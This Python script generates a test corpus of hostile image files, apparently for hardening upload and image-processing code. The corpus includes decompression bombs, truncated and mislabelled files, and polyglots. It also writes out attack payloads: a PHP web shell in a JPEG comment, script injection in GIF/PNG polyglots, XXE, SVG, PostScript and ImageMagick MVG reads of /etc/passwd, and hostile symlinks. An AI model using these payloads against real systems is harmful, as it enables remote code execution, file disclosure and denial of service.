"""Files that nobody should have to open: bombs, stumps, liars and worse. For tests, and to try on a site.

    python scripts/make_hostile_files.py FOLDER

They take 65 MB and harm nobody who only stores them. ``files()`` gives their contents by name.
"""

import argparse
import os
import struct
import zlib
from collections.abc import Iterator
from io import BytesIO
from pathlib import Path

import numpy as np
from PIL import Image

FORMATS = ("JPEG", "PNG", "WEBP", "GIF", "TIFF", "BMP", "AVIF", "JPEG2000", "PPM")
CUTS = (0.01, 0.3, 0.6, 0.95)
SECRET = "/etc/passwd"


def files() -> Iterator[tuple[str, bytes]]:
    """Name and content of every file."""
    for family in (bombs, stumps, liars, polyglots, animations, metadata, shapes, programs):
        yield from family()


def write(folder: Path) -> None:
    """All files, and beside them what a folder can hold besides files."""
    folder.mkdir(parents=True, exist_ok=True)
    for name, data in files():
        (folder / name).write_bytes(data)
    os.mkfifo(folder / "pipe.png")
    (folder / "folder.png").mkdir()
    for name, where in (("passwd.png", SECRET), ("zero.png", "/dev/zero"), ("up.png", ".."), ("loop.png", "loop.png")):
        (folder / name).symlink_to(where)


# Small files of very many pixels or bytes


def bombs() -> Iterator[tuple[str, bytes]]:
    yield "header-100000.png", png(100_000, 100_000, b"")
    yield "grey-9400.png", png(9400, 9400, zeros(9401 * 9400), colour=0)
    yield "grey-6000.webp", encoded(Image.new("L", (6000, 6000)), "WEBP", quality=0, method=0)
    yield "grey-9400.tiff", encoded(Image.new("L", (9400, 9400)), "TIFF", compression="tiff_adobe_deflate")
    yield "screen-65535.gif", gif_screen(65_535, 65_535)
    yield "frame-65535.gif", gif_screen(8, 8, frame=(65_535, 65_535))
    yield "webp-16383.webp", webp_header(16_383, 16_383)
    yield "tiff-strip.tiff", tiff_of_one_strip(40_000, 40_000)
    bomb = zeros(100_000_000)
    yield "iccp.png", png(8, 8, zeros(8 * 25), before=[(b"iCCP", b"profile\0\0" + bomb)])
    yield "ztxt.png", png(8, 8, zeros(8 * 25), before=[(b"zTXt", b"Comment\0\0" + bomb)])
    yield "itxt.png", png(8, 8, zeros(8 * 25), before=[(b"iTXt", b"Comment\0\1\0\0\0" + bomb)])


# Files cut short


def stumps() -> Iterator[tuple[str, bytes]]:
    yield "empty.png", b""
    for format in FORMATS:
        data = encoded(picture(), format)
        for share in CUTS:
            yield f"cut-{int(share * 100)}.{format.lower()}", data[: int(len(data) * share)]


# Names that say something else than the content


def liars() -> Iterator[tuple[str, bytes]]:
    yield "jpeg.png", encoded(picture(), "JPEG")
    yield "png.mp4", encoded(picture(), "PNG")
    yield "text.jpg", b"This is no picture.\n" * 20
    yield "program.png", b"\x7fELF" + bytes(200)
    yield "noise.jpg", b"\xff\xd8\xff\xe0" + np.random.default_rng(0).bytes(5000)
    yield "zeros.png", bytes(5000)


def polyglots() -> Iterator[tuple[str, bytes]]:
    archive = b"PK\x05\x06" + bytes(18)
    yield "jpeg-zip.jpg", encoded(picture(), "JPEG") + archive
    yield "jpeg-php.jpg", encoded(picture(), "JPEG", comment=b"<?php system($_GET['c']); ?>")
    yield "gifar.gif", encoded(picture(), "GIF") + archive
    yield "gif-script.gif", b"GIF89a/*" + encoded(picture(), "GIF")[8:] + b"*/=1;alert(1)"
    yield "html.png", encoded(picture(), "PNG") + b"<html><script>alert(1)</script></html>"


def animations() -> Iterator[tuple[str, bytes]]:
    data = encoded(picture(), "GIF")
    place = data.index(b"\x2c")
    head, frame = data[:place], data[place:-1]
    yield "frames-5000.gif", head + frame * 5000 + b";"
    yield "no-end.gif", head + frame * 5000
    yield "no-first-frame.gif", head + b"\x21\xfe" + (b"\xff" + bytes(255)) * 4000
    frames = [Image.new("RGB", (8, 8), (n % 256, n // 256, 0)) for n in range(500)]
    yield "frames-500.webp", encoded(frames[0], "WEBP", save_all=True, append_images=frames[1:])
    yield "frames-500.png", encoded(frames[0], "PNG", save_all=True, append_images=frames[1:])


# Notes beside the picture


def metadata() -> Iterator[tuple[str, bytes]]:
    rubbish = np.random.default_rng(1).bytes(60_000)
    for number, exif in enumerate([rubbish, b"MM\0*" + b"\xff" * 4, ifd_loop(), orientation(2**31), orientation(0)]):
        yield f"exif-{number}.jpg", encoded(picture(), "JPEG", exif=b"Exif\0\0" + exif)
        yield f"exif-{number}.webp", encoded(picture(), "WEBP", exif=b"Exif\0\0" + exif)
        yield f"exif-{number}.png", png(8, 8, zeros(8 * 25), before=[(b"eXIf", exif)])
    yield "cyclic.tiff", ifd_loop()
    yield "many-entries.tiff", b"II*\0\x08\0\0\0" + struct.pack("<H", 65_535) + bytes(65_535 * 12)
    yield "icc-rubbish.jpg", encoded(picture(), "JPEG", icc_profile=rubbish)
    yield "comments.jpg", many_comments()


def shapes() -> Iterator[tuple[str, bytes]]:
    for size in ((1, 1), (1, 65_000), (65_000, 1)):
        yield f"{size[0]}x{size[1]}.jpg", encoded(Image.new("RGB", size), "JPEG")
    for size in ((1, 1_000_000), (1_000_000, 1)):
        yield f"{size[0]}x{size[1]}.png", encoded(Image.new("L", size), "PNG")
    modes = (("CMYK", "JPEG"), ("CMYK", "TIFF"), ("1", "PNG"), ("I;16", "PNG"), ("F", "TIFF"), ("LAB", "TIFF"))
    for mode, format in modes:
        yield f"{mode.replace(';', '-')}.{format.lower()}", encoded(Image.new(mode, (40, 40)), format)
    yield "no-size.png", png(0, 0, b"")
    yield "negative.bmp", b"BM" + struct.pack("<IHHIIiiHH", 54, 0, 0, 54, 40, -8, -8, 1, 24) + bytes(24)
    yield "billion.ppm", b"P6 1000000000 1000000000 255\n"


# What makes careless readers start programs or open other files


def programs() -> Iterator[tuple[str, bytes]]:
    postscript = f"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 10 10\n({SECRET}) (r) file\n%%EOF\n".encode()
    for name in ("a.eps", "postscript.jpg", "postscript.png"):
        yield name, postscript
    svg = f'<svg xmlns="http://www.w3.org/2000/svg"><image href="file://{SECRET}"/></svg>'.encode()
    yield "a.svg", svg
    yield "svg.png", svg
    yield "entity.svg", f'<!DOCTYPE a [<!ENTITY b SYSTEM "file://{SECRET}">]><svg>&b;</svg>'.encode()
    yield "a.icns", b"icns" + struct.pack(">I", 2**32 - 1) + b"ic10" + struct.pack(">I", 2**32 - 1)
    for format in ("PDF", "ICO", "TGA", "PCX", "MPO"):
        yield f"a.{format.lower()}", encoded(picture(), format)
    yield "a.psd", b"8BPS\0\1" + bytes(6) + struct.pack(">HIIHH", 3, 30_000, 30_000, 8, 3) + bytes(40)
    yield "magick.mvg", f"push graphic-context\nimage over 0,0 0,0 'ephemeral:{SECRET}'\n".encode()
    yield "playlist.webp", f"#EXTM3U\nfile://{SECRET}\n".encode()


# Parts


def picture() -> Image.Image:
    noise = np.random.default_rng(0).integers(0, 255, (64, 64, 3), dtype=np.uint8)
    return Image.fromarray(noise)


def encoded(image: Image.Image, format: str, **options: object) -> bytes:
    buffer = BytesIO()
    image.save(buffer, format, **options)
    return buffer.getvalue()


def zeros(count: int) -> bytes:
    """So many zero bytes, compressed."""
    deflate = zlib.compressobj(9)
    part = bytes(1_000_000)
    parts = [deflate.compress(part[: min(len(part), count - done)]) for done in range(0, count, len(part))]
    return b"".join([*parts, deflate.flush()])


def png(
    width: int, height: int, pixels: bytes, *, colour: int = 2, before: list[tuple[bytes, bytes]] | None = None
) -> bytes:
    header = struct.pack(">IIBBBBB", width, height, 8, colour, 0, 0, 0)
    chunks = [(b"IHDR", header), *(before or []), (b"IDAT", pixels), (b"IEND", b"")]
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body)) for kind, body in chunks
    )


def gif_screen(width: int, height: int, frame: tuple[int, int] | None = None) -> bytes:
    data = bytearray(encoded(Image.new("L", (8, 8)), "GIF"))
    data[6:10] = struct.pack("<HH", width, height)
    place = data.index(b"\x2c") + 5
    data[place : place + 4] = struct.pack("<HH", *(frame or (width, height)))
    return bytes(data)


def webp_header(width: int, height: int) -> bytes:
    data = bytearray(encoded(picture(), "WEBP"))
    place = data.index(b"\x9d\x01\x2a") + 3
    data[place : place + 4] = struct.pack("<HH", width, height)
    return bytes(data)


def tiff_of_one_strip(width: int, height: int) -> bytes:
    return ifd({256: width, 257: height, 258: 8, 259: 1, 262: 1, 273: 8, 277: 1, 278: height, 279: width * height})


def ifd(tags: dict[int, int], following: int = 0) -> bytes:
    entries = b"".join(struct.pack("<HHII", tag, 4, 1, value) for tag, value in tags.items())
    return b"II*\0\x08\0\0\0" + struct.pack("<H", len(tags)) + entries + struct.pack("<I", following)


def ifd_loop() -> bytes:
    """A directory that is its own Exif directory and its own successor."""
    size = {256: 8, 257: 8, 258: 8, 259: 1, 262: 1, 273: 8, 277: 1, 278: 8, 279: 64}
    return ifd({**size, 34_665: 8, 34_853: 8}, following=8)


def orientation(value: int) -> bytes:
    return ifd({274: value})


def many_comments() -> bytes:
    data = encoded(picture(), "JPEG")
    return data[:2] + (b"\xff\xfe\xff\xff" + bytes(65_533)) * 100 + data[2:]


if __name__ == "__main__":
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("folder", type=Path)
    write(parser.parse_args().folder)
